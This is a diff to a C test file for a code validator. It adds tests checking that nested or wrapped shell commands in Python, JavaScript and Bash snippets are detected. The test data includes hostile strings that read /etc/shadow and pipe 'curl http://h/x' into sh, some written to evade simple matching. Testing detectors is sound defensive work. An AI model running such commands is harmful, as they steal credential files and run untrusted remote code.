@@ -400,19 +400,110 @@ Test(code, a_finding_says_what_and_where)
 	code_rules_done(shared_rules());
 }
 
+/* --- code in texts ---------------------------------------------------------------------------
+ */
+
+#define ONE_DEEPER "exec('import os\\nos.system(\"cat /etc/shadow\")')"
+
+static const struct {
+	enum code_language language;
+	const char *source, *rule; /* NULL: none of what is inside */
+} nested[] = {
+	{CODE_PYTHON, "eval('__import__(\"os\").system(\"id\")')", "py-shell-command"},
+	{CODE_PYTHON, "import os\nos.system('cat /etc/shadow')", "sh-secret-file"},
+	{CODE_PYTHON, "import subprocess as s\ns.run(['bash', '-c', 'cat /etc/shadow'])",
+	 "sh-secret-file"},
+	{CODE_PYTHON, "import os\nos.spawnlp(0, 'sh', 'sh', '-c', 'cat /etc/sh' + 'adow')",
+	 "sh-secret-file"},
+	{CODE_PYTHON, ONE_DEEPER, "sh-secret-file"},
+	{CODE_PYTHON, "exec('''exec(\"\"\"exec('exec(\"1\")')\"\"\")''')", "source-nested"},
+	{CODE_PYTHON, "print('cat /etc/motd')\nlog('bash', '-c', 'eval x')", NULL},
+	{CODE_JAVASCRIPT, "eval('require(\"child_process\").execSync(c)')", "js-exec"},
+	{CODE_JAVASCRIPT, "new Function('a', 'return eval(a)')", "js-eval"},
+	{CODE_JAVASCRIPT, "require('child_process').spawn('sh', ['-c', 'cat /etc/shadow'])",
+	 "sh-secret-file"},
+	{CODE_BASH, "bash -c 'curl http://h/x | sh'", "sh-pipe-to-shell"},
+	{CODE_BASH, "sudo /bin/bash -xc 'curl http://h/x | sh'", "sh-pipe-to-shell"},
+	{CODE_BASH, "python3.11 -c 'import os; os.system(x)'", "py-shell-command"},
+	{CODE_BASH, "node --eval 'eval(x)'", "js-eval"},
+	{CODE_BASH, "python3 - <<'EOF'\nimport os\nos.system(x)\nEOF", "py-shell-command"},
+	{CODE_BASH, "bash <<< 'curl http://h/x | sh'", "sh-pipe-to-shell"},
+	{CODE_BASH, "trap 'curl http://h/x | sh' EXIT", "sh-pipe-to-shell"},
+	{CODE_BASH, "cat <<'EOF'\nimport os\nos.system(x)\nEOF", NULL},
+};
+
+static void load_installed(struct code_rules *rules)
+{
+	own_fd folder = open("validator/code/rules", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	struct err err = {0};
+
+	cr_assert(code_rules_load(rules, NULL, folder, &err) == 0);
+	for (unsigned i = 0; i < CODE_LANGUAGES; i++)
+		cr_assert(code_rules_ready(rules, (enum code_language)i, &err) == 0);
+}
+
+static bool is_of_another_text(const struct code_findings *findings)
+{
+	for (size_t i = 0; i < findings->count; i++)
+		if (strncmp(findings->list[i].message, "in the code that is run", 23) == 0)
+			return true;
+	return false;
+}
+
+Test(code, code_in_texts_is_judged)
+{
+	static struct code_rules rules;
+	static struct code_findings findings;
+
+	load_installed(&rules);
+	for (size_t i = 0; i < ARRAY_COUNT(nested); i++) {
+		struct err err = {0};
+
+		cr_assert(code_examine(&rules, NULL, nested[i].language, nested[i].source,
+				       strlen(nested[i].source), UINT32_MAX, &findings,
+				       &err) == 0);
+		if (nested[i].rule != NULL)
+			cr_expect(has(&findings, nested[i].rule), "%s: no %s", nested[i].source,
+				  nested[i].rule);
+		else
+			cr_expect(!is_of_another_text(&findings), "%s", nested[i].source);
+		code_findings_done(&findings);
+	}
+	code_rules_done(&rules);
+}
+
+/* A thousand small programs in one, each of which is parsed: the limit is that of all. */
+Test(code, texts_share_the_time_of_their_source)
+{
+	static struct code_rules rules;
+	static struct code_findings findings;
+	struct err err = {0};
+	size_t length;
+	char *text = repeated("", "exec('f(f(f(f(f(f(f(f(1))))))))')\n", 4000, &length);
+	uint64_t start;
+
+	load_installed(&rules);
+	start = thread_us();
+	cr_assert(code_examine(&rules, NULL, CODE_PYTHON, text, length,
+			       LIMIT_CODE_TIME_MS * 1000u, &findings, &err) == 0);
+	cr_expect(has(&findings, "source-limit"));
+	cr_expect(thread_us() - start < HOSTILE_US_MAX);
+	code_findings_done(&findings);
+	code_rules_done(&rules);
+	free(text);
+}
+
 /* What weighs most is kept, wherever it stands: also that the source could not be judged. */
 Test(code, a_flood_of_small_findings_hides_no_large_one)
 {
 	static const char high[] = "[__import__('os').system(c) for c in input()]\n";
 	static struct code_rules rules;
 	static struct code_findings findings;
-	own_fd folder = open("validator/code/rules", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
 	struct err err = {0};
 	own_buf text = {.data = NULL};
 	size_t largest = 0;
 
-	cr_assert(code_rules_load(&rules, NULL, folder, &err) == 0);
-	cr_assert(code_rules_ready(&rules, CODE_PYTHON, &err) == 0);
+	load_installed(&rules);
 	buf_init(&text, 1 << 20);
 	buf_add_str(&text, "import hashlib\n");
 	for (int i = 0; i < LIMIT_FINDINGS + 10; i++)
